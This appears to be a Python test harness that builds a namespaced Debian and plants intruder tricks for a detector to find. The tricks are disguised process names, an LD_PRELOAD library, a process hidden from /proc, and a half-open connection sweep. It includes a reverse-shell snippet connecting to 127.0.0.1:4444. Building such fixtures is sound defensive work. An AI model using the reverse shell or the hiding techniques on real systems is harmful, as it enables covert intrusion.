"""A Debian of its own (mount, PID and network namespace) with ten tricks of intruders planted, or none (Linux, root).

    python -m tests.live.tricks [--root DEBIAN] [--plant] COMMAND [ARGUMENT...]

``--root`` names an unpacked Debian that is entered; otherwise the file system is this host's, with fresh ``/run``,
``/var/tmp`` and ``/usr/local/sbin``. The command finds in STAGED_PLANTS what was planted where (JSON: trick → PID,
path, port …). Output and exit code are the command's; everything ends with it. Traffic stays on loopback and between
the namespaces made here.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
from pathlib import Path

from tests.live.staging import SCANNER, SO_ATTACH_FILTER, enter_namespace, open_sink

REPOSITORY = Path(__file__).resolve().parents[2]
CLONE_NEWNS, CLONE_NEWPID = 0x0002_0000, 0x2000_0000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x4_0000
SOURCES = 24
SWEPT = 8081
WAIT = "import sys; print('ready', flush=True); sys.stdin.read()"
LISTEN = "import socket, sys; s = socket.socket(); s.bind(('0.0.0.0', {})); s.listen(5); " + WAIT
#: A connection whose answers are dropped: the other end keeps it half-open.
CALLER = f"""
import ctypes, socket, struct, subprocess, sys
ctypes.CDLL(None).unshare(0x40000000)
print("ready", flush=True)
sys.stdin.readline()
s = socket.socket()
program = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0))
s.setsockopt(socket.SOL_SOCKET, {SO_ATTACH_FILTER}, struct.pack("@HP", 1, ctypes.addressof(program)))
s.setblocking(False)
s.connect_ex((sys.argv[1], {SWEPT}))
print("called", flush=True)
sys.stdin.read()
"""
SHELL = """
import os, socket
s = socket.create_connection(("127.0.0.1", 4444))
for number in range(3):
    os.dup2(s.fileno(), number)
os.execv("/bin/sh", ["sh"])
"""


def mount(source: str, target: str, kind: str | None = None, flags: int = 0) -> None:
    library = ctypes.CDLL(None, use_errno=True)
    if library.mount(source.encode(), target.encode(), kind.encode() if kind else None, flags, None):
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), f"mount {target}")


class Stage:
    """What was started; ended by the death of the first process of the namespace."""

    def __init__(self) -> None:
        self.plants: dict[str, dict[str, object]] = {}
        self._kept: list[object] = []

    def start(self, command: list[str], *, ready: bool = True, **environment: str) -> int:
        process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE if ready else subprocess.DEVNULL, text=True,
            stderr=subprocess.DEVNULL, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", **environment},
        )  # fmt: skip
        self._kept.append(process)
        if ready and not process.stdout.readline():
            raise RuntimeError(f"{command[0]} ended with exit code {process.wait()}")
        return process.pid

    def copy(self, path: str, code: str) -> int:
        """Run the interpreter under another name."""
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(os.path.realpath(sys.executable), path)
        return self.start([path, "-S", "-c", code], PYTHONHOME=sys.base_prefix,
                          LD_LIBRARY_PATH=sysconfig.get_config_var("LIBDIR") or "")  # fmt: skip

    def keep(self, thing: object) -> None:
        self._kept.append(thing)

    def plant(self) -> None:
        put = self.plants
        put["deleted"] = {"pid": self.copy("/run/cache/updater", WAIT), "path": "/run/cache/updater"}
        Path("/run/cache/updater").unlink()
        put["folder"] = {"pid": self.copy("/var/tmp/rsyslogd", WAIT), "path": "/var/tmp/rsyslogd"}
        put["lookalike"] = {"pid": self.copy("/run/systemd-joumald", WAIT), "path": "/run/systemd-joumald"}
        library = next(Path("/usr/lib").glob("*-linux-gnu*/libm.so.6"))
        shutil.copy2(library, "/run/libsys.so")
        pid = self.start(["/bin/sleep", "3600"], ready=False, LD_PRELOAD="/run/libsys.so")
        put["preload"] = {"pid": pid, "path": "/run/libsys.so"}
        put["sshd"] = {"pid": self.copy("/usr/local/sbin/sshd", LISTEN.format(121)), "port": 121}
        handler = socket.create_server(("127.0.0.1", 4444))
        self.keep(handler)
        put["shell"] = {"pid": self.start([sys.executable, "-S", "-c", SHELL], ready=False)}
        self.keep(handler.accept())
        self.keep(open_sink())
        put["worm"] = {"pid": self.copy("/run/mailhelper", SCANNER)}
        hidden = self.copy("/run/hidden", LISTEN.format(5454))
        put["hidden"] = {"pid": hidden, "port": 5454}
        Path("/run/empty").mkdir()
        mount("/run/empty", f"/proc/{hidden}", flags=MS_BIND)
        put["interpreter"] = {"pid": self.start([sys.executable, "-S", "-c", LISTEN.format(6001)]), "port": 6001}
        self.keep(socket.create_server(("0.0.0.0", SWEPT), backlog=128))
        put["sweep"] = {"port": SWEPT}


def furnish(root: str) -> None:
    """Make the Debian, or this host's file system, one of our own."""
    mount("none", "/", flags=MS_REC | MS_PRIVATE)
    if root:
        for place in dict.fromkeys((sys.base_prefix, sys.prefix, str(REPOSITORY))):
            Path(root + place).mkdir(parents=True, exist_ok=True)
            mount(place, root + place, flags=MS_BIND | MS_REC)
        mount("/dev", f"{root}/dev", flags=MS_BIND | MS_REC)
        os.chroot(root)
    for place in ("/run", "/var/tmp", *(("/tmp",) if root else ("/usr/local/sbin",))):
        mount("tmpfs", place, "tmpfs")
    mount("proc", "/proc", "proc")
    os.chdir(REPOSITORY)


def serve(stage: Stage, root: str) -> None:
    """The services of a base system; jobs of this host itself are not run a second time."""
    Path("/run/dbus").mkdir(exist_ok=True)
    if Path("/usr/bin/dbus-daemon").exists():
        stage.start(["/usr/bin/dbus-daemon", "--system", "--nofork", "--nopidfile"], ready=False)
    if root:
        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
        subprocess.run(["ssh-keygen", "-A"], check=False, stdout=subprocess.DEVNULL)
        for command in (["/usr/sbin/cron", "-f"], ["/usr/sbin/sshd", "-D"], ["/usr/sbin/rsyslogd", "-n"]):
            if Path(command[0]).exists():
                stage.start(command, ready=False)


def inside(root: str, plant: bool, command: list[str], ready: int, go: int) -> int:
    """Life of the first process of the namespace."""
    furnish(root)
    enter = Stage()
    serve(enter, root)
    if plant:
        enter.plant()
    os.write(ready, b"r")
    os.read(go, 1)
    environment = dict(os.environ, STAGED_PLANTS=json.dumps(enter.plants), PYTHONPATH=str(REPOSITORY))
    return subprocess.run(command, env=environment, check=False).returncode


def sweep(pid: int) -> list[subprocess.Popen[str]]:
    """Callers in namespaces of their own, each joined to the host's namespace by a pair of interfaces."""
    callers = []
    batch = []
    for number in range(SOURCES):
        code = [sys.executable, "-S", "-c", CALLER, f"10.77.{number}.1"]
        caller = subprocess.Popen(code, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        callers.append(caller)
        caller.stdout.readline()
        inner = [
            f"link add c type veth peer name v{number} netns {pid}",
            f"addr add 10.77.{number}.2/24 dev c",
            "link set c up",
        ]
        subprocess.run(["nsenter", f"--net=/proc/{caller.pid}/ns/net", "ip", "-batch", "-"], input="\n".join(inner),
                       text=True, check=True)  # fmt: skip
        batch += [f"addr add 10.77.{number}.1/24 dev v{number}", f"link set v{number} up"]
    subprocess.run(
        ["nsenter", f"--net=/proc/{pid}/ns/net", "ip", "-batch", "-"], input="\n".join(batch), text=True, check=True
    )
    for caller in callers:
        caller.stdin.write("\n")
        caller.stdin.flush()
    for caller in callers:
        caller.stdout.readline()
    return callers


def main(arguments: list[str]) -> int:
    root, plant = "", False
    while arguments and arguments[0].startswith("--"):
        word = arguments.pop(0)
        plant |= word == "--plant"
        root = arguments.pop(0) if word == "--root" else root
    ready_out, ready_in = os.pipe()
    go_out, go_in = os.pipe()
    keeper = os.fork()
    if not keeper:  # it stays outside the PID namespace and gives the network namespace a number out here
        enter_namespace()
        library = ctypes.CDLL(None, use_errno=True)
        if library.unshare(CLONE_NEWNS | CLONE_NEWPID):
            os._exit(97)
        first = os.fork()
        if not first:
            try:
                os._exit(inside(root, plant, arguments, ready_in, go_out))
            except BaseException as error:
                print(f"staging failed: {error!r}", file=sys.stderr, flush=True)
                os._exit(98)
        os.close(ready_in)
        os._exit(os.waitstatus_to_exitcode(os.waitpid(first, 0)[1]))
    os.close(ready_in)
    callers: list[subprocess.Popen[str]] = []
    try:
        if os.read(ready_out, 1) and plant:
            callers = sweep(keeper)
        os.write(go_in, b"g")
        return os.waitstatus_to_exitcode(os.waitpid(keeper, 0)[1])
    finally:
        for caller in callers:
            caller.stdin.close()
            caller.wait()
            caller.stdout.close()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
